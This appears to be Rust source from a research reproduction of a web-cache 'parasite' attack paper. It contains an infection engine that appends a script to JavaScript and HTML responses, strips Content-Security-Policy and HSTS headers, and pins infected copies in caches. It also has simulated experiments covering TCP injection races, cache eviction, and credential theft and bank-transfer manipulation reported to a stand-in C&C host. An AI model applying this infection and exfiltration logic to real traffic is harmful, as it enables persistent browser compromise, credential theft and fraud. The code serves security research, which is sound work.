    /// Whether HTML documents are infected too. The paper leaves this
    /// optional "so as not to violate any Content Security Policy".
    pub infect_html: bool,
    /// Whether security headers are stripped from infected responses.
    pub strip_security_headers: bool,
    /// Whether caching headers are rewritten to pin the object.
    pub pin_cache_headers: bool,
}

impl Default for InfectionConfig {
    fn default() -> Self {
        InfectionConfig {
            infect_html: true,
            strip_security_headers: true,
            pin_cache_headers: true,
        }
    }
}

/// The infection engine.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Infector {
    /// The parasite to attach.
    pub parasite: Parasite,
    /// Infection options.
    pub config: InfectionConfig,
}

impl Infector {
    /// Creates an infector with default options.
    pub fn new(parasite: Parasite) -> Self {
        Infector {
            parasite,
            config: InfectionConfig::default(),
        }
    }

    /// Returns `true` if the response is a kind of object this infector will
    /// modify.
    pub fn can_infect(&self, response: &Response) -> bool {
        match response.body.kind {
            ResourceKind::JavaScript => true,
            ResourceKind::Html => self.config.infect_html,
            _ => false,
        }
    }

    /// Builds the infected copy of a genuine response.
    ///
    /// Responses that cannot host a parasite are returned unchanged.
    pub fn infect_response(&self, original: &Response) -> Response {
        if !self.can_infect(original) || !original.status.is_success() {
            return original.clone();
        }
        let snippet = self.parasite.payload_snippet();
        let new_text = match original.body.kind {
            ResourceKind::JavaScript => format!("{};{}", original.body.as_text(), snippet),
            ResourceKind::Html => {
                let html = original.body.as_text();
                let script_block = format!("<script>{snippet}</script>");
                match html.rfind("</body>") {
                    Some(idx) => format!("{}{}{}", &html[..idx], script_block, &html[idx..]),
                    None => format!("{html}{script_block}"),
                }
            }
            // Guarded by the can_infect check above. mp-lint: allow(panic-discipline)
            _ => unreachable!("can_infect filtered other kinds"),
        };

        let mut infected = original.clone();
        infected.body = Body::text(original.body.kind, new_text);
        infected
            .headers
            .set(names::CONTENT_LENGTH, infected.body.len().to_string());

        if self.config.pin_cache_headers {
            infected.headers.set(names::CACHE_CONTROL, parasite_pin_header());
            infected.headers.remove(names::PRAGMA);
            infected.headers.remove(names::EXPIRES);
            // Drop validators so later conditional requests cannot resurrect
            // the clean copy with a 304.
            infected.headers.remove(names::ETAG);
            infected.headers.remove(names::LAST_MODIFIED);
        }
        if self.config.strip_security_headers {
            infected.headers.remove(names::CONTENT_SECURITY_POLICY);
            infected.headers.remove(names::X_CONTENT_SECURITY_POLICY);
            infected.headers.remove(names::X_WEBKIT_CSP);
            infected.headers.remove(names::STRICT_TRANSPORT_SECURITY);
            infected.headers.remove(names::X_FRAME_OPTIONS);
        }
        infected
    }

    /// Manipulates a request the victim sends for an already-infected object
    /// so the origin replies with a full `200` body: validators are stripped
    /// ("headers are set which signal to the server that the client has not
    /// cached any data", §VI-A).
    pub fn manipulate_request(&self, request: &Request) -> Request {
        let mut manipulated = request.clone();
        manipulated.strip_validators();
        manipulated.headers.set(names::CACHE_CONTROL, "no-cache");
        manipulated
    }

    /// Returns `true` if the given script/HTML body already carries this
    /// campaign's parasite.
    pub fn is_infected(&self, body_text: &str) -> bool {
        Parasite::detect(body_text)
            .map(|p| p.campaign == self.parasite.campaign)
            .unwrap_or(false)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mp_httpsim::caching::CacheDirectives;
    use mp_httpsim::url::Url;

    fn genuine_js() -> Response {
        Response::ok(Body::text(ResourceKind::JavaScript, "function jquery(){ return 1; }"))
            .with_cache_control("max-age=600")
            .with_etag("\"v3\"")
            .with_header(names::CONTENT_SECURITY_POLICY, "default-src 'self'")
            .with_header(names::STRICT_TRANSPORT_SECURITY, "max-age=31536000")
    }

    fn infector() -> Infector {
        Infector::new(Parasite::standard("master.attacker.example"))
    }

    #[test]
    fn javascript_infection_preserves_original_and_appends_payload() {
        let infected = infector().infect_response(&genuine_js());
        let text = infected.body.as_text();
        assert!(text.starts_with("function jquery(){ return 1; }"));
        assert!(Parasite::detect(&text).is_some());
        assert!(infector().is_infected(&text));
    }

    #[test]
    fn html_infection_inserts_script_before_body_close() {
        let original = Response::ok(Body::text(
            ResourceKind::Html,
            "<html><body><h1>news</h1></body></html>",
        ));
        let infected = infector().infect_response(&original);
        let text = infected.body.as_text();
        let script_pos = text.find("<script>").unwrap();
        let body_close = text.find("</body>").unwrap();
        assert!(script_pos < body_close);
        assert!(Parasite::detect(&text).is_some());
    }

    #[test]
    fn cache_headers_are_pinned_and_validators_removed() {
        let infected = infector().infect_response(&genuine_js());
        let directives = CacheDirectives::from_headers(&infected.headers);
        assert_eq!(directives.max_age, Some(31_536_000));
        assert!(directives.immutable);
        assert!(infected.headers.get(names::ETAG).is_none());
        assert_eq!(
            infected.headers.get(names::CONTENT_LENGTH).unwrap(),
            &infected.body.len().to_string()
        );
    }

    #[test]
    fn security_headers_are_stripped() {
        let infected = infector().infect_response(&genuine_js());
        assert!(infected.headers.get(names::CONTENT_SECURITY_POLICY).is_none());
        assert!(infected.headers.get(names::STRICT_TRANSPORT_SECURITY).is_none());
    }

    #[test]
    fn stripping_can_be_disabled_for_ablations() {
        let mut i = infector();
        i.config.strip_security_headers = false;
        i.config.pin_cache_headers = false;
        let infected = i.infect_response(&genuine_js());
        assert!(infected.headers.get(names::CONTENT_SECURITY_POLICY).is_some());
        assert_eq!(infected.headers.get(names::ETAG), Some("\"v3\""));
    }

    #[test]
    fn images_and_errors_are_left_alone() {
        let image = Response::ok(Body::binary(ResourceKind::Image, vec![1, 2, 3]));
        assert_eq!(infector().infect_response(&image), image);
        let error = Response::not_found();
        assert_eq!(infector().infect_response(&error), error);
        let mut no_html = infector();
        no_html.config.infect_html = false;
        let html = Response::ok(Body::text(ResourceKind::Html, "<body></body>"));
        assert_eq!(no_html.infect_response(&html), html);
    }

    #[test]
    fn manipulated_requests_lose_their_validators() {
        let request = Request::get(Url::parse("http://top1.com/persistent.js").unwrap())
            .with_etag_validator("\"v3\"");
        let manipulated = infector().manipulate_request(&request);
        assert!(!manipulated.is_conditional());
        assert_eq!(manipulated.headers.get(names::CACHE_CONTROL), Some("no-cache"));
    }
}
