//! Experiment runners: one function per table and figure of the paper.
//!
//! Every runner returns a structured result plus a `render()` method that
//! prints rows shaped like the paper's artefact, so the bench harness and the
//! examples can regenerate Tables I–V and Figures 1–5 (and the §VIII
//! ablation) with one call each.

use crate::attacks::{self, AttackReport};
use crate::cnc::{downstream_goodput_bytes_per_sec, CncServer, Command};
use crate::defense::{ablation_matrix, AblationRow, AttackStage};
use crate::eviction::{junk_origin, EvictionAttack, EvictionReport};
use crate::infect::Infector;
use crate::master::Master;
use crate::script::Parasite;
use mp_apps::banking::BankingApp;
use mp_apps::webmail::WebMailApp;
use mp_browser::browser::{Browser, FetchSource};
use mp_browser::profile::{BrowserProfile, OperatingSystem};
use mp_httpsim::body::{Body, ResourceKind};
use mp_httpsim::message::{Request, Response};
use mp_httpsim::transport::{Exchange, Internet, StaticOrigin};
use mp_httpsim::url::{Scheme, Url};
use mp_netsim::link::MediumKind;
use mp_netsim::sim::{FixedResponder, Simulator};
use mp_netsim::time::Duration as SimDuration;
use mp_webcache::{table4_entries, SharedCache};
use mp_webgen::{scan, Crawler, PersistencySeries, PolicyScan, Population, PopulationConfig};
use serde::{Deserialize, Serialize};

/// The C&C host used by all experiments.
pub const MASTER_HOST: &str = "master.attacker.example";

fn standard_infector() -> Infector {
    Infector::new(Parasite::standard(MASTER_HOST))
}

// ---------------------------------------------------------------------------
// Table I — cache eviction
// ---------------------------------------------------------------------------

/// Result of the Table I experiment.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Table1Result {
    /// One report per evaluated browser.
    pub rows: Vec<EvictionReport>,
}

impl Table1Result {
    /// Renders rows shaped like Table I.
    pub fn render(&self) -> String {
        let mut out = String::from("Table I - cache eviction on popular browsers\n");
        out.push_str("browser                     | eviction | inter-domain | size (MB) | remarks\n");
        for row in &self.rows {
            out.push_str(&format!(
                "{:<27} | {:<8} | {:<12} | {:>9.0} | {}\n",
                row.browser,
                if row.evicted_targets { "yes" } else { "no" },
                if row.inter_domain { "yes" } else { "no" },
                row.cache_capacity_bytes as f64 / 1_000_000.0,
                row.remark
            ));
        }
        out
    }
}

/// Runs the cache-eviction attack against every Table I browser profile.
///
/// `scale` shrinks the cache sizes and junk objects so the experiment runs in
/// milliseconds; the *behaviour* (who evicts, who melts down) is unaffected.
pub fn table1_cache_eviction(scale: u64) -> Table1Result {
    let rows = BrowserProfile::table1_browsers()
        .into_iter()
        .map(|profile| {
            let original_capacity = profile.cache_capacity_bytes;
            let scaled = BrowserProfile {
                cache_capacity_bytes: (profile.cache_capacity_bytes / scale).max(10_000),
                ..profile
            };
            let junk_size = 2_048usize;
            let junk_count = (scaled.cache_capacity_bytes as usize / junk_size) + 8;

            let mut victim_site = StaticOrigin::new("bank.example");
            victim_site.put_text(
                "/app.js",
                ResourceKind::JavaScript,
                "function bank(){}",
                "public, max-age=86400",
            );
            let mut net = Internet::new();
            net.register_origin(victim_site);
            net.register_origin(junk_origin(junk_size, junk_count));

            let mut browser = Browser::new(scaled, Box::new(net));
            let target = Url::parse("http://bank.example/app.js").expect("static url");
            browser.fetch(&target, "bank.example");
            let mut report = EvictionAttack::new(junk_size, junk_count).run(&mut browser, &[target]);
            report.cache_capacity_bytes = original_capacity;
            report
        })
        .collect();
    Table1Result { rows }
}

// ---------------------------------------------------------------------------
// Table II — TCP injection matrix
// ---------------------------------------------------------------------------

/// One cell of the Table II matrix.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum InjectionCell {
    /// Injection succeeded.
    Success,
    /// Injection failed.
    Failure,
    /// The browser does not ship on this OS.
    NotApplicable,
}

/// Result of the Table II experiment.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table2Result {
    /// Browser column labels.
    pub browsers: Vec<String>,
    /// Matrix rows: OS label plus one cell per browser.
    pub rows: Vec<(String, Vec<InjectionCell>)>,
}

impl Table2Result {
    /// Renders the matrix like Table II.
    pub fn render(&self) -> String {
        let mut out = String::from("Table II - TCP injection evaluation\n");
        out.push_str(&format!("{:<9}", "OS"));
        for browser in &self.browsers {
            out.push_str(&format!(" | {browser:<8}"));
        }
        out.push('\n');
        for (os, cells) in &self.rows {
            out.push_str(&format!("{os:<9}"));
            for cell in cells {
                let symbol = match cell {
                    InjectionCell::Success => "ok",
                    InjectionCell::Failure => "FAIL",
                    InjectionCell::NotApplicable => "n/a",
                };
                out.push_str(&format!(" | {symbol:<8}"));
            }
            out.push('\n');
        }
        out
    }

    /// Returns `true` if no supported combination failed.
    pub fn all_supported_succeed(&self) -> bool {
        self.rows
            .iter()
            .flat_map(|(_, cells)| cells.iter())
            .all(|c| *c != InjectionCell::Failure)
    }
}

/// Runs one packet-level injection race and reports whether the victim ended
/// up with the parasite.
pub fn run_injection_race(seed: u64) -> bool {
    let master = Master::new(MASTER_HOST);
    let target = Url::parse("http://somesite.com/my.js").expect("static url");
    let genuine = Response::ok(Body::text(ResourceKind::JavaScript, "function genuine(){}"))
        .with_cache_control("public, max-age=86400");
    let (tap, _stats) = master.packet_tap(&[(target.clone(), genuine.clone())], SimDuration::from_micros(300));

    let mut sim = Simulator::new(seed);
    let wifi = sim.add_medium(MediumKind::SharedWireless, 2_000);
    let wan = sim.add_medium(MediumKind::WideArea, 40_000);
    let victim = sim.add_host("victim", mp_netsim::addr::IpAddr::new(10, 0, 0, 2), wifi);
    let server = sim.add_host("server", mp_netsim::addr::IpAddr::new(203, 0, 113, 10), wan);
    sim.listen(server, 80);
    sim.set_service(
        server,
        Box::new(FixedResponder::new(genuine.to_wire(), SimDuration::from_micros(500))),
    );
    sim.add_tap(wifi, Box::new(tap));

    let conn = sim.connect(victim, server, 80).expect("hosts exist");
    let request = Request::get(target).to_wire();
    sim.send(victim, conn, &request).expect("connection exists");
    sim.run_until_idle();

    let received = sim.received(victim, conn);
    Response::from_wire(&received)
        .ok()
        .map(|r| Parasite::detect(&r.body.as_text()).is_some())
        .unwrap_or(false)
}


/// Parametric variant of the injection race: the attacker reacts after
/// `attacker_reaction_us` and the genuine server sits `server_one_way_us`
/// away (one-way WAN latency). Returns `true` if the victim ends up with the
/// parasite. Used by the race-crossover ablation: the attack only works while
/// the spoofed response beats the genuine one to the victim.
pub fn injection_race_with_timing(attacker_reaction_us: u64, server_one_way_us: u64) -> bool {
    let master = Master::new(MASTER_HOST);
    let target = Url::parse("http://somesite.com/my.js").expect("static url");
    let genuine = Response::ok(Body::text(ResourceKind::JavaScript, "function genuine(){}"))
        .with_cache_control("public, max-age=86400");
    let (tap, _stats) = master.packet_tap(
        &[(target.clone(), genuine.clone())],
        SimDuration::from_micros(attacker_reaction_us),
    );

    let mut sim = Simulator::new(1234);
    let wifi = sim.add_medium(MediumKind::SharedWireless, 2_000);
    let wan = sim.add_medium(MediumKind::WideArea, server_one_way_us);
    let victim = sim.add_host("victim", mp_netsim::addr::IpAddr::new(10, 0, 0, 2), wifi);
    let server = sim.add_host("server", mp_netsim::addr::IpAddr::new(203, 0, 113, 10), wan);
    sim.listen(server, 80);
    sim.set_service(
        server,
        Box::new(FixedResponder::new(genuine.to_wire(), SimDuration::from_micros(500))),
    );
    sim.add_tap(wifi, Box::new(tap));

    let conn = sim.connect(victim, server, 80).expect("hosts exist");
    sim.send(victim, conn, &Request::get(target).to_wire()).expect("connection exists");
    sim.run_until_idle();

    Response::from_wire(&sim.received(victim, conn))
        .ok()
        .map(|r| Parasite::detect(&r.body.as_text()).is_some())
        .unwrap_or(false)
}

/// Runs the Table II OS × browser injection matrix.
pub fn table2_injection_matrix() -> Table2Result {
    let browsers = BrowserProfile::table2_browsers();
    let browser_names = browsers.iter().map(|b| b.kind.to_string()).collect();
    let mut rows = Vec::new();
    for (os_index, os) in OperatingSystem::ALL.iter().enumerate() {
        let mut cells = Vec::new();
        for (browser_index, browser) in browsers.iter().enumerate() {
            if !browser.runs_on(*os) {
                cells.push(InjectionCell::NotApplicable);
                continue;
            }
            // TCP injection does not depend on the browser or OS (both follow
            // the TCP specification); run the race to confirm it.
            let seed = (os_index * 16 + browser_index) as u64 + 1;
            if run_injection_race(seed) {
                cells.push(InjectionCell::Success);
            } else {
                cells.push(InjectionCell::Failure);
            }
        }
        rows.push((os.to_string(), cells));
    }
    Table2Result {
        browsers: browser_names,
        rows,
    }
}

// ---------------------------------------------------------------------------
// Table III — refresh methods vs Cache-API parasites
// ---------------------------------------------------------------------------

/// The user actions evaluated in Table III.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum RefreshMethod {
    /// Ctrl-F5 hard reload.
    HardReload,
    /// Clear the HTTP cache.
    ClearCache,
    /// Clear cookies / site data.
    ClearCookies,
}

impl std::fmt::Display for RefreshMethod {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let name = match self {
            RefreshMethod::HardReload => "Ctrl+F5",
            RefreshMethod::ClearCache => "clear cache",
            RefreshMethod::ClearCookies => "clear cookies",
        };
        f.write_str(name)
    }
}

/// One cell of Table III: did the refresh method remove the parasite?
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum RemovalCell {
    /// The parasite was removed.
    Removed,
    /// The parasite survived.
    Survived,
    /// The browser has no Cache API (IE).
    NotApplicable,
}

/// Result of the Table III experiment.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table3Result {
    /// Rows: browser name plus one cell per refresh method
    /// (Ctrl-F5, clear cache, clear cookies).
    pub rows: Vec<(String, Vec<RemovalCell>)>,
}

impl Table3Result {
    /// Renders rows shaped like Table III.
    pub fn render(&self) -> String {
        let mut out = String::from("Table III - refresh methods vs Cache-API parasites\n");
        out.push_str("browser              | Ctrl+F5   | clear cache | clear cookies\n");
        for (browser, cells) in &self.rows {
            let text: Vec<&str> = cells
                .iter()
                .map(|c| match c {
                    RemovalCell::Removed => "removed",
                    RemovalCell::Survived => "stays",
                    RemovalCell::NotApplicable => "n/a",
                })
                .collect();
            out.push_str(&format!(
                "{:<20} | {:<9} | {:<11} | {}\n",
                browser, text[0], text[1], text[2]
            ));
        }
        out
    }
}

fn parasite_survives_after(profile: BrowserProfile, method: RefreshMethod) -> RemovalCell {
    if !profile.cache_api_supported {
        return RemovalCell::NotApplicable;
    }
    let infector = standard_infector();
    let target = Url::parse("http://top1.com/persistent.js").expect("static url");

    let mut origin = StaticOrigin::new("top1.com");
    origin.put_text("/persistent.js", ResourceKind::JavaScript, "function lib(){}", "public, max-age=86400");
    let mut browser = Browser::new(profile, Box::new(origin));

    // The parasite stored an infected copy through the Cache API.
    let infected = infector.infect_response(
        &Response::ok(Body::text(ResourceKind::JavaScript, "function lib(){}"))
            .with_cache_control("public, max-age=86400"),
    );
    browser
        .cache_api_mut()
        .put(&target.origin().to_string(), "parasite", &target, infected);

    match method {
        RefreshMethod::HardReload => {
            browser.hard_reload(&target);
        }
        RefreshMethod::ClearCache => {
            browser.clear_http_cache();
        }
        RefreshMethod::ClearCookies => {
            browser.clear_cookies_and_site_data();
        }
    }

    let result = browser.fetch(&target, "top1.com");
    let survives = result.source == FetchSource::CacheApi
        && infector.is_infected(&result.response.body.as_text());
    if survives {
        RemovalCell::Survived
    } else {
        RemovalCell::Removed
    }
}

/// Runs the Table III experiment over the paper's browser set.
pub fn table3_refresh_methods() -> Table3Result {
    let browsers = vec![
        BrowserProfile::chrome(),
        BrowserProfile::firefox(),
        BrowserProfile::edge(),
        BrowserProfile::opera(),
        BrowserProfile::internet_explorer(),
    ];
    let rows = browsers
        .into_iter()
        .map(|profile| {
            let name = profile.kind.to_string();
            let cells = vec![
                parasite_survives_after(profile.clone(), RefreshMethod::HardReload),
                parasite_survives_after(profile.clone(), RefreshMethod::ClearCache),
                parasite_survives_after(profile, RefreshMethod::ClearCookies),
            ];
            (name, cells)
        })
        .collect();
    Table3Result { rows }
}

// ---------------------------------------------------------------------------
// Table IV — caches in the wild
// ---------------------------------------------------------------------------

/// One evaluated cache row.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table4Row {
    /// Location section.
    pub location: String,
    /// Product class.
    pub class: String,
    /// Instance name.
    pub name: String,
    /// Whether the infection persisted for a second client over HTTP.
    pub infected_over_http: bool,
    /// Whether the infection persisted for a second client over HTTPS
    /// (assuming the deployment makes HTTPS visible to the cache).
    pub infected_over_https: bool,
    /// Comment from the taxonomy.
    pub comment: Option<String>,
}

/// Result of the Table IV experiment.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table4Result {
    /// Rows in the paper's order.
    pub rows: Vec<Table4Row>,
}

impl Table4Result {
    /// Renders rows shaped like Table IV.
    pub fn render(&self) -> String {
        let mut out = String::from("Table IV - caches in the wild (infection persists for a second client?)\n");
        out.push_str(&format!("{:<28} {:<26} {:<34} | http | https\n", "location", "type", "instance"));
        for row in &self.rows {
            out.push_str(&format!(
                "{:<28} {:<26} {:<34} | {:<4} | {}\n",
                row.location,
                row.class,
                row.name,
                if row.infected_over_http { "yes" } else { "no" },
                if row.infected_over_https { "yes" } else { "no" }
            ));
        }
        out
    }
}

fn shared_cache_infection(instance: mp_webcache::CacheInstance, https: bool) -> bool {
    let scheme = if https { Scheme::Https } else { Scheme::Http };
    let host = "top1.com";
    let mut origin = StaticOrigin::new(host);
    origin.put_text("/persistent.js", ResourceKind::JavaScript, "function lib(){}", "public, max-age=86400");

    let infector = standard_infector();
    let mut injecting = crate::injection::InjectingExchange::new(origin, infector.clone());
    let target = Url::from_parts(scheme, host, "/persistent.js");
    injecting.add_target(&target);
    if https {
        // The target site's HTTPS deployment is broken enough to inject
        // (otherwise the transport question is moot for every cache class).
        injecting
            .injectability_mut()
            .set(host, mp_httpsim::tls::TlsDeployment::legacy_ssl(mp_httpsim::tls::TlsVersion::Ssl3));
    }

    // The cache sees HTTPS if the deployment includes interception/offload.
    let mut cache = SharedCache::new(instance, injecting, true);

    // Victim A (on the hostile path) pulls the object through the cache.
    let _ = cache.exchange(&Request::get(target.clone()));
    // The attacker goes away; victim B fetches through the same cache.
    let second = cache.exchange(&Request::get(target.clone()));
    infector.is_infected(&second.body.as_text()) && cache.peek(&target).is_some()
}

/// Runs the Table IV experiment over every taxonomy row.
pub fn table4_caches() -> Table4Result {
    let rows = table4_entries()
        .into_iter()
        .map(|instance| {
            // Browser caches are per-client; the "second client" question only
            // applies to shared caches, so browser rows reuse the Table III
            // persistence result (the parasite persists in the client cache).
            let (http, https) = if !instance.shared_between_clients() {
                (instance.http.possible(), instance.https.possible())
            } else {
                (
                    instance.http.possible() && shared_cache_infection(instance.clone(), false),
                    instance.https.possible() && shared_cache_infection(instance.clone(), true),
                )
            };
            Table4Row {
                location: instance.location.to_string(),
                class: instance.class.to_string(),
                name: instance.name.clone(),
                infected_over_http: http,
                infected_over_https: https,
                comment: instance.comment.clone(),
            }
        })
        .collect();
    Table4Result { rows }
}

// ---------------------------------------------------------------------------
// Table V — application attacks
// ---------------------------------------------------------------------------

/// Result of the Table V experiment.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table5Result {
    /// One report per attack row exercised.
    pub reports: Vec<AttackReport>,
}

impl Table5Result {
    /// Renders rows shaped like Table V.
    pub fn render(&self) -> String {
        let mut out = String::from("Table V - attacks against applications\n");
        out.push_str(&format!("{:<45} {:<16} {:<10} {}\n", "attack", "property", "succeeded", "target"));
        for report in &self.reports {
            let property = match report.property {
                attacks::SecurityProperty::Confidentiality => "C",
                attacks::SecurityProperty::Integrity => "I",
                attacks::SecurityProperty::Availability => "A",
            };
            out.push_str(&format!(
                "{:<45} {:<16} {:<10} {}\n",
                report.name,
                property,
                if report.succeeded { "yes" } else { "no" },
                report.target
            ));
        }
        out
    }

    /// Number of successful attacks.
    pub fn successes(&self) -> usize {
        self.reports.iter().filter(|r| r.succeeded).count()
    }
}

/// Runs every Table V attack module against the simulated applications.
pub fn table5_attacks() -> Table5Result {
    let mut reports = Vec::new();
    let mut cnc = CncServer::new(MASTER_HOST);

    // --- Steal login data + fake login overlay (banking).
    let mut bank = BankingApp::default();
    let (mut login_dom, login_form) = bank.login_dom();
    let user = login_dom.by_name("username").expect("login form").id;
    let pass = login_dom.by_name("password").expect("login form").id;
    login_dom.set_attr(user, "value", "alice");
    login_dom.set_attr(pass, "value", "correct-horse");
    let submission = login_dom.submit_form(login_form).expect("form exists");
    let session = bank.login(&submission).expect("credentials are valid");
    reports.push(attacks::steal_login_data(&login_dom, &mut cnc, "campaign-0"));
    let mut overlay_dom = login_dom.clone();
    reports.push(attacks::fake_login_overlay(&mut overlay_dom));

    // --- Browser data.
    let mut browser = Browser::new(BrowserProfile::chrome(), Box::new(Internet::new()));
    let bank_page = Url::parse("https://bank.example/account").expect("static url");
    browser.cookies_mut().set_from_header("session=bank-cookie", &bank_page, 0);
    browser
        .storage_mut()
        .set_item(&bank_page.origin().to_string(), "last_login", "2021-05-17");
    reports.push(attacks::read_browser_data(&browser, &bank_page, &mut cnc, "campaign-0"));

    // --- Personal browser data (domain already has microphone permission).
    reports.push(attacks::capture_personal_data(true, &bank_page));

    // --- Website data (webmail inbox) + phishing.
    let mut mail = WebMailApp::default();
    let (mut mail_dom, mail_form) = mail.login_dom();
    let email = mail_dom.by_name("email").expect("login form").id;
    let password = mail_dom.by_name("password").expect("login form").id;
    mail_dom.set_attr(email, "value", "alice@mail.example");
    mail_dom.set_attr(password, "value", "mail-pass-123");
    let mail_session = mail.login(&mail_dom.submit_form(mail_form).expect("form")).expect("valid");
    let inbox = mail.inbox_dom(&mail_session).expect("session valid");
    reports.push(attacks::read_website_data(&inbox, &mut cnc, "campaign-0"));
    reports.push(attacks::cross_tab_side_channel(&mut cnc, "campaign-0", b"tab-sync"));
    reports.push(attacks::send_phishing_via_webmail(&mut mail, &mail_session, true));

    // --- 2FA bypass / transaction manipulation.
    reports.push(attacks::manipulate_bank_transfer(
        &mut bank,
        &session,
        "FR76 3000 6000 0112 3456 7890 189",
        "GB29 ATTACKER 0000 0000 0000 00",
        "480.00",
    ));

    // --- Resource theft, clickjacking, ad injection, DDoS.
    reports.push(attacks::steal_computation(10_000));
    let mut page_dom = mp_browser::dom::Dom::new(Url::parse("http://news.example/").expect("static url"));
    reports.push(attacks::clickjacking(&mut page_dom, "news.example"));
    reports.push(attacks::ad_injection(&mut page_dom, 4));
    reports.push(attacks::browser_ddos(250, 40, "victim-service.example"));

    // --- OS-level exploits (delivered by the parasite, platform dependent).
    reports.push(attacks::low_level_exploit("JS CPU Cache & Spectre", true));
    reports.push(attacks::low_level_exploit("Rowhammer", true));
    reports.push(attacks::low_level_exploit("0-day on Demand", true));

    // --- Victim network.
    reports.push(attacks::internal_network_recon(&[
        ("192.168.0.1 (router, default credentials)", true),
        ("192.168.0.23 (ip camera)", true),
        ("192.168.0.99 (printer)", false),
    ]));
    reports.push(attacks::browser_ddos(250, 40, "192.168.0.1"));

    Table5Result { reports }
}

// ---------------------------------------------------------------------------
// Figures 1, 2 — message flows
// ---------------------------------------------------------------------------

/// A rendered message-flow trace (Figures 1, 2 and 4 are sequence diagrams).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FlowTrace {
    /// Human-readable description of the flow.
    pub title: String,
    /// One line per step.
    pub steps: Vec<String>,
}

impl FlowTrace {
    /// Renders the flow.
    pub fn render(&self) -> String {
        let mut out = format!("{}\n", self.title);
        for (index, step) in self.steps.iter().enumerate() {
            out.push_str(&format!("  {:>2}. {}\n", index + 1, step));
        }
        out
    }
}

/// Regenerates the Figure 1 cache-eviction flow from a browser-level run.
pub fn fig1_eviction_flow() -> FlowTrace {
    let mut victim_site = StaticOrigin::new("any.com");
    victim_site.put_text("/index.html", ResourceKind::Html, "<html><body>any</body></html>", "no-cache");
    let mut popular = StaticOrigin::new("popular.com");
    popular.put_text("/img.png", ResourceKind::JavaScript, "img", "public, max-age=86400");
    let mut net = Internet::new();
    net.register_origin(victim_site);
    net.register_origin(popular);
    net.register_origin(junk_origin(2_048, 16));

    let profile = BrowserProfile {
        cache_capacity_bytes: 16_000,
        ..BrowserProfile::chrome()
    };
    let mut browser = Browser::new(profile, Box::new(net));

    let mut steps = Vec::new();
    steps.push("victim -> any.com: GET / (legitimate)".to_string());
    browser.visit(&Url::parse("http://any.com/index.html").expect("static url"));
    steps.push(format!(
        "attacker -> victim: injected inline script `{}` [ATTACK]",
        crate::eviction::eviction_inline_script(16)
    ));
    let popular_url = Url::parse("http://popular.com/img.png").expect("static url");
    browser.fetch(&popular_url, "popular.com");
    let attack = EvictionAttack::new(2_048, 16);
    let report = attack.run(&mut browser, std::slice::from_ref(&popular_url));
    for index in 0..report.junk_objects_loaded {
        steps.push(format!("victim -> attacker.com: GET /junk{index:04}.jpg [ATTACK]"));
    }
    let refetch = browser.fetch(&popular_url, "popular.com");
    steps.push(format!(
        "victim -> popular.com: GET /img.png ({}; cache was flushed)",
        match refetch.source {
            FetchSource::Network => "fresh network fetch",
            other => return FlowTrace { title: "Figure 1".into(), steps: vec![format!("unexpected source {other:?}")] },
        }
    ));
    FlowTrace {
        title: "Figure 1 - cache eviction message flow".to_string(),
        steps,
    }
}

/// Regenerates the Figure 2 cache-infection flow from a packet-level run.
pub fn fig2_infection_flow() -> FlowTrace {
    let master = Master::new(MASTER_HOST);
    let target = Url::parse("http://somesite.com/my.js").expect("static url");
    let genuine = Response::ok(Body::text(ResourceKind::JavaScript, "function genuine(){}"))
        .with_cache_control("public, max-age=86400");
    let (tap, _stats) = master.packet_tap(&[(target.clone(), genuine.clone())], SimDuration::from_micros(300));

    let mut sim = Simulator::new(99);
    let wifi = sim.add_medium(MediumKind::SharedWireless, 2_000);
    let wan = sim.add_medium(MediumKind::WideArea, 40_000);
    let victim = sim.add_host("victim", mp_netsim::addr::IpAddr::new(10, 0, 0, 2), wifi);
    let server = sim.add_host("server", mp_netsim::addr::IpAddr::new(203, 0, 113, 10), wan);
    sim.listen(server, 80);
    sim.set_service(
        server,
        Box::new(FixedResponder::new(genuine.to_wire(), SimDuration::from_micros(500))),
    );
    sim.add_tap(wifi, Box::new(tap));

    let conn = sim.connect(victim, server, 80).expect("hosts exist");
    sim.send(victim, conn, &Request::get(target.clone()).to_wire()).expect("conn");
    sim.run_until_idle();

    let mut steps: Vec<String> = sim
        .trace()
        .with_payload()
        .map(|event| event.describe())
        .collect();

    // Step 3/4 of the figure: the parasite reloads the original object with a
    // cache-busting query so the page keeps working.
    let busted = target.with_query(Some("t=500198"));
    steps.push(format!("victim -> somesite.com: GET {} (parasite reloads original)", busted));
    // Step 5: propagation requests to further popular domains.
    for host in ["top1.com", "top2.com", "top3.com"] {
        steps.push(format!("victim -> {host}: GET /persistent.js (propagation) [ATTACK]"));
    }

    FlowTrace {
        title: "Figure 2 - cache infection message flow (packet-level race)".to_string(),
        steps,
    }
}

// ---------------------------------------------------------------------------
// Figure 3 — persistency measurement
// ---------------------------------------------------------------------------

/// Result of the Figure 3 experiment.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Fig3Result {
    /// The measured series.
    pub series: PersistencySeries,
}

impl Fig3Result {
    /// Renders selected points of the curves.
    pub fn render(&self) -> String {
        let mut out = String::from("Figure 3 - object persistency over the measurement period\n");
        out.push_str("day | any .js % | name-persistent % | hash-persistent %\n");
        for &day in &[1u32, 5, 10, 25, 50, 75, 100] {
            if let Some(point) = self.series.at(day) {
                out.push_str(&format!(
                    "{:>3} | {:>9.1} | {:>17.1} | {:>17.1}\n",
                    day, point.any_js, point.name_persistent, point.hash_persistent
                ));
            }
        }
        out
    }
}

/// Runs the Figure 3 persistency crawl over a generated population.
